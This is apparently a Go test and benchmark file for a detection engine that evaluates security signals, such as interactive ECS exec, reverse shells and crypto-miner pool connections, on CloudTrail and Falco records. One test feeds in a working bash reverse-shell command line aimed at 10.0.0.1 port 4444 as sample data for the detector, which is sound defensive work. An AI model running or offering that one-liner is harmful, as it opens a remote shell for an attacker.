package rule

import (
	"encoding/json"
	"os"
	"testing"

	"github.com/ecscorr/ecscorr/rules"
)

func readRaw(tb testing.TB, name string) map[string]any {
	tb.Helper()
	data, err := os.ReadFile("testdata/" + name)
	if err != nil {
		tb.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		tb.Fatal(err)
	}
	return m
}

// TestReferenceSignalsOnSamples evaluates the §9.3 signals on real-shaped
// records.
func TestReferenceSignalsOnSamples(t *testing.T) {
	set := mustLoad(t, "testdata/reference_examples.yaml")
	ct := &Env{Event: EventEnv{Source: "cloudtrail", Type: "ecs.amazonaws.com:ExecuteCommand"}, Raw: readRaw(t, "ct_execute_command.json"), Lists: set.Lists}
	falco := &Env{Event: EventEnv{Source: "falco", Type: "Write below binary dir"}, Raw: readRaw(t, "falco_alert.json"), Lists: set.Lists}
	cases := []struct {
		signal string
		env    *Env
		want   bool
	}{
		{"ct_ecs_exec_interactive", ct, true},
		{"ct_privileged_taskdef", ct, false},
		{"ct_container_insights_disabled", ct, false},
		{"falco_reverse_shell", falco, false},
		{"falco_miner_pool_conn", falco, false},
	}
	for _, tc := range cases {
		got, err := set.SignalsByName[tc.signal].Eval(tc.env)
		if err != nil || got != tc.want {
			t.Errorf("%s = %v, %v; want %v", tc.signal, got, err, tc.want)
		}
	}
	// A reverse shell by command line, and a pool connection by port.
	falco.Raw["output_fields"] = map[string]any{"proc.name": "bash", "proc.cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
	if ok, err := set.SignalsByName["falco_reverse_shell"].Eval(falco); !ok || err != nil {
		t.Errorf("reverse shell by cmdline: %v %v", ok, err)
	}
	falco.Raw["output_fields"] = map[string]any{"evt.type": "connect", "fd.rport": 3333.0, "fd.sip": "1.2.3.4"}
	pool := set.SignalsByName["falco_miner_pool_conn"]
	if ok, err := pool.Eval(falco); !ok || err != nil {
		t.Errorf("pool by port: %v %v", ok, err)
	}
	if f, err := EvalFields(pool, falco, nil); err != nil || f["dest"] != "1.2.3.4" {
		t.Errorf("pool fields %v %v", f, err)
	}
}

func BenchmarkSignalEval(b *testing.B) {
	set := mustLoad(b, "testdata/reference_examples.yaml")
	ct := &Env{Event: EventEnv{Source: "cloudtrail", Type: "ecs.amazonaws.com:ExecuteCommand"}, Raw: readRaw(b, "ct_execute_command.json"), Lists: set.Lists}
	falco := &Env{Event: EventEnv{Source: "falco", Type: "Write below binary dir"}, Raw: readRaw(b, "falco_alert.json"), Lists: set.Lists}
	falco.Raw["output_fields"].(map[string]any)["proc.name"] = "bash"
	cases := []struct {
		name, signal string
		env          *Env
	}{
		{"cloudtrail_exec", "ct_ecs_exec_interactive", ct},
		{"cloudtrail_insights_any", "ct_container_insights_disabled", ct},
		{"falco_reverse_shell", "falco_reverse_shell", falco},
		{"falco_miner_pool", "falco_miner_pool_conn", falco},
	}
	for _, tc := range cases {
		sig := set.SignalsByName[tc.signal]
		b.Run(tc.name+"/Eval", func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := sig.Eval(tc.env); err != nil {
					b.Fatal(err)
				}
			}
		})
		b.Run(tc.name+"/Evaluator", func(b *testing.B) {
			var e Evaluator
			b.ReportAllocs()
			for b.Loop() {
				if _, err := e.Signal(sig, tc.env); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkLoadBuiltin(b *testing.B) {
	srcs, err := ReadFS(rules.Builtin)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, diags := Load(srcs, LoadOptions{}); diags.HasErrors() {
			b.Fatal(diags)
		}
	}
}
